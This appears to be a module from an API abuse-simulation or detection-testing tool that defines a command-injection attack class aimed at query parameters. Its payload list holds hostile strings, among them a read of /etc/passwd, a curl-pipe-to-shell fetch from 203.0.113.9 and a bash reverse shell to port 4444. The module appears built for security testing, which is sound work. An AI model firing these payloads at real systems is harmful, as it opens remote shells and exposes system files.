import type { AbuseClass } from '../abuse-contract.js';
import { payloadAttack } from '../building/payload-attack.js';

const PAYLOADS = [
  '; cat /etc/passwd',
  '| id',
  '$(curl http://203.0.113.9/x.sh|sh)',
  '`whoami`',
  '&& ping -c 10 203.0.113.9',
  '; /bin/bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"',
] as const;

export const commandInjection: AbuseClass = {
  id: 'command-injection',
  title: 'Command injection',
  detectors: ['injection-attempt', 'abnormal-parameter', 'parameter-fuzzing', 'error-oracle'],
  owasp: 'API8:2023',
  needs: 'an identified caller of an endpoint that reads',
  plan: (target, occasion) => payloadAttack(target, occasion, 'command injection', PAYLOADS, ['query']),
};
